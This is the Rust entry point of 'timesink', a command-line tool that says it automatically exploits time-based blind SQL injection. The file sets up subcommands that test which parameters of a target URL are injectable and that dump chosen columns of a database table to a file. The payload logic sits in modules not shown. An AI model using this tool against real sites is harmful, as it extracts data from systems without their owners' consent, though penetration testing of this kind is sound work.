use std::collections::HashMap;
use std::sync::Arc;

use anyhow::Result;
use clap::{Args, Parser, Subcommand};
use colored::Colorize;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

mod cli;
mod engine;
mod error;
mod output;
#[cfg(test)]
mod testing;
mod web;

use engine::defaults::{
    default_headers, DEFAULT_MAX_INTERVAL_MS, DEFAULT_MAX_ROW_LENGTH, DEFAULT_MAX_THREADS,
    DEFAULT_MIN_ROW_LENGTH, DEFAULT_OUTPUT_PATH, DEFAULT_THRESHOLD,
};
use engine::exploit::Engine;
use engine::session::{FetchTableOptions, Session, TestOptions};
use output::status::ConsoleSink;
use web::request::Request;
use web::target::{HttpTarget, Target};

#[derive(Parser)]
#[command(name = "timesink")]
#[command(version, about = "Automatically exploit time-based blind SQL injection vulnerabilities", long_about = None)]
struct Cli {
    /// The URL of the target
    #[arg(short, long)]
    url: String,

    #[command(subcommand)]
    command: Commands,

    #[arg(short, long)]
    verbose: bool,
}

#[derive(Subcommand)]
enum Commands {
    /// Test whether some parameters can be exploited
    #[command(alias = "t")]
    Test(TestArgs),

    /// Fetch a table by exploiting a vulnerable parameter
    #[command(name = "fetch_table", alias = "f")]
    FetchTable(FetchTableArgs),
}

#[derive(Args)]
struct CommonArgs {
    /// The HTTP method for the requests (get or post)
    #[arg(short = 'M', long, value_parser = parse_method)]
    method: String,

    /// The parameters and their default values (must be a JSON object)
    #[arg(short = 'P', long, value_parser = parse_json_object)]
    params: HashMap<String, String>,

    /// The headers for the requests (must be a JSON object)
    #[arg(short = 'H', long, value_parser = parse_json_object)]
    headers: Option<HashMap<String, String>>,

    /// Threshold used to decide if an answer is affirmative (must be greater than 1)
    #[arg(short = 'T', long, default_value_t = DEFAULT_THRESHOLD, value_parser = parse_threshold)]
    threshold: f64,

    /// Max time to wait between each request, in ms
    #[arg(short = 'I', long = "max_interval", default_value_t = DEFAULT_MAX_INTERVAL_MS)]
    max_interval: u64,

    /// Max number of requests to make concurrently
    #[arg(long = "max_threads", default_value_t = DEFAULT_MAX_THREADS, value_parser = parse_max_threads)]
    max_threads: usize,
}

#[derive(Args)]
struct TestArgs {
    #[command(flatten)]
    common: CommonArgs,
}

#[derive(Args)]
struct FetchTableArgs {
    #[command(flatten)]
    common: CommonArgs,

    /// The vulnerable parameter to exploit
    #[arg(short = 'p', long = "vulnerable_param")]
    vulnerable_param: String,

    /// The name of the table to fetch
    #[arg(short = 't', long)]
    table: String,

    /// The columns to select, comma-separated
    #[arg(short = 'c', long, required = true, value_delimiter = ',')]
    columns: Vec<String>,

    /// The row from which to start to select
    #[arg(short = 'r', long = "from_row", default_value_t = 0, value_parser = clap::value_parser!(i64).range(0..))]
    from_row: i64,

    /// The number of rows to select (default: until the end of the table)
    #[arg(short = 'n', long = "n_rows", value_parser = clap::value_parser!(i64).range(1..))]
    n_rows: Option<i64>,

    /// Limit selection to rows with this min length
    #[arg(long = "min_row_length", default_value_t = DEFAULT_MIN_ROW_LENGTH, value_parser = clap::value_parser!(i64).range(0..))]
    min_row_length: i64,

    /// Limit selection to rows with this max length
    #[arg(long = "max_row_length", default_value_t = DEFAULT_MAX_ROW_LENGTH, value_parser = clap::value_parser!(i64).range(1..))]
    max_row_length: i64,

    /// Path to the output file
    #[arg(short = 'o', long = "output_path", default_value = DEFAULT_OUTPUT_PATH)]
    output_path: String,
}

fn parse_method(s: &str) -> Result<String, String> {
    let method = s.to_ascii_lowercase();
    if method == "get" || method == "post" {
        Ok(method)
    } else {
        Err("'method' must be one of: get, post".to_string())
    }
}

fn parse_json_object(s: &str) -> Result<HashMap<String, String>, String> {
    serde_json::from_str(s)
        .map_err(|_| "must be a valid JSON object with string values".to_string())
}

fn parse_threshold(s: &str) -> Result<f64, String> {
    let threshold: f64 = s
        .parse()
        .map_err(|_| "'threshold' must be a numeric value".to_string())?;
    if threshold > 1.0 {
        Ok(threshold)
    } else {
        Err("'threshold' must be greater than 1".to_string())
    }
}

fn parse_max_threads(s: &str) -> Result<usize, String> {
    let max_threads: usize = s
        .parse()
        .map_err(|_| "'max_threads' must be a numeric value".to_string())?;
    if max_threads >= 1 {
        Ok(max_threads)
    } else {
        Err("'max_threads' must be greater or equal than 1".to_string())
    }
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();

    let log_level = if cli.verbose { "debug" } else { "info" };
    tracing_subscriber::registry()
        .with(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| format!("timesink={}", log_level).into()),
        )
        .with(tracing_subscriber::fmt::layer())
        .init();

    match cli.command {
        Commands::Test(args) => handle_test(&cli.url, args).await,
        Commands::FetchTable(args) => handle_fetch_table(&cli.url, args).await,
    }
}

fn default_request(common: &CommonArgs) -> Request {
    Request::new(
        common.method.clone(),
        common.params.clone(),
        common.headers.clone().unwrap_or_else(default_headers),
    )
}

fn build_session(url: &str, common: &CommonArgs) -> Result<Session<HttpTarget, ConsoleSink>> {
    let target = Arc::new(HttpTarget::new(url)?);
    tracing::debug!("attacking target: {}", target.url());
    let engine = Engine::new(target, common.params.clone());
    Ok(Session::new(engine, Arc::new(ConsoleSink)))
}

async fn handle_test(url: &str, args: TestArgs) -> Result<()> {
    let request = default_request(&args.common);
    let mut session = build_session(url, &args.common)?;
    session.install_interrupt_handler();

    let options = TestOptions {
        params: Vec::new(),
        threshold: args.common.threshold,
        max_interval_ms: args.common.max_interval,
        max_threads: args.common.max_threads,
    };
    let exploitable = session.test(&request, &options).await?;

    if exploitable.is_empty() {
        println!("\n{} No exploitable parameter found", "✗".red());
    } else {
        println!(
            "\n{} Exploitable parameters: {}",
            "✓".green(),
            exploitable.join(", ").yellow()
        );
    }

    Ok(())
}

async fn handle_fetch_table(url: &str, args: FetchTableArgs) -> Result<()> {
    let request = default_request(&args.common);
    let mut session = build_session(url, &args.common)?;
    session.install_interrupt_handler();

    let options = FetchTableOptions {
        param: args.vulnerable_param,
        table: args.table,
        columns: args.columns,
        from_row: args.from_row,
        n_rows: args.n_rows,
        min_row_length: args.min_row_length,
        max_row_length: args.max_row_length,
        threshold: args.common.threshold,
        max_interval_ms: args.common.max_interval,
        max_threads: args.common.max_threads,
        output_path: args.output_path,
    };
    let written = session.fetch_table(&request, &options).await?;

    println!("\n{} Table dumped to: {}", "✓".green(), written.yellow());

    Ok(())
}
